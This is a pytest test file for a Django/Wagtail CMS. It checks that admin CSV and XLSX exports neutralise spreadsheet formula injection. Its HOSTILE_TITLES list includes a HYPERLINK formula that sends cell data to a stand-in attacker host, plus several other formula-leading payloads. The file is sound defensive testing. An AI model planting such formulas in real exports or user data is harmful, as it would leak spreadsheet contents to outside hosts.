"""Admin CSV/XLSX exports never hand a spreadsheet program a formula (OWASP CSV injection)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import PageLogEntry

from catalogue.factories import ServicePageFactory
from catalogue.models import ServicePage
from catalogue.services import CATALOGUE_EDITORS
from communes.factories import CommuneServicePageFactory
from communes.models import CommunePage
from tests.factories import user_in_groups

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("https://angreifer.example/?d="&A1;"Details")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def cells(rows) -> list:
    return [value for row in rows for value in row if isinstance(value, str)]


def assert_neutralised(values: list[str], export_format: str = "csv") -> None:
    for title in HOSTILE_TITLES:
        if export_format == "xlsx":
            title = title.replace("\r", "\n")  # XML stores a carriage return as LF
        assert "'" + title in values, title
        assert title not in values, title


@pytest.fixture
def hostile_services(services_index):
    overdue = datetime.date.today() - datetime.timedelta(days=1)
    return [
        ServicePageFactory(
            parent=services_index,
            title=title,
            leika_key=f"970000000001{number:02d}",
            next_review=overdue,
        )
        for number, title in enumerate(HOSTILE_TITLES)
    ]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_service_listing_export_neutralises_formulas(
    client, hostile_services, export_format
):
    client.force_login(user_in_groups("redaktion-x", CATALOGUE_EDITORS))

    response = client.get(reverse("services:index"), {"export": export_format, "q": ""})

    assert response.status_code == 200
    rows = csv_rows(response) if export_format == "csv" else xlsx_rows(response)
    assert_neutralised(cells(rows), export_format)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_commune_reports_neutralise_formulas(client, export_format):
    radebeul = CommunePage.objects.get(ars="146270230230")
    index = radebeul.get_children().get(slug="leistungen")
    overdue = datetime.date.today() - datetime.timedelta(days=1)
    for number, title in enumerate(HOSTILE_TITLES):
        service = ServicePage.objects.live().order_by("pk")[number]
        CommuneServicePageFactory(
            parent=index,
            service=service,
            title=title,
            slug=f"feindlich-{number}",
            next_review=overdue,
        )
    client.force_login(user_in_groups("radebeul-x", "Radebeul Editors"))

    response = client.get(
        reverse("communes_overdue_reviews"), {"export": export_format}
    )

    assert response.status_code == 200
    rows = csv_rows(response) if export_format == "csv" else xlsx_rows(response)
    assert_neutralised(cells(rows), export_format)


def test_wagtails_own_reports_neutralise_formulas(client, admin_user, hostile_services):
    for page in hostile_services:
        PageLogEntry.objects.log_action(page, "wagtail.edit", user=admin_user)
    client.force_login(admin_user)

    response = client.get(
        reverse("wagtailadmin_reports:site_history"), {"export": "csv"}
    )

    assert response.status_code == 200
    assert_neutralised(cells(csv_rows(response)))


def test_numbers_and_plain_text_stay_as_they_are():
    from cms.compat import neutralise_formula

    assert neutralise_formula(-5) == -5
    assert (
        neutralise_formula("Personalausweis beantragen") == "Personalausweis beantragen"
    )
    assert neutralise_formula("=1") == "'=1"
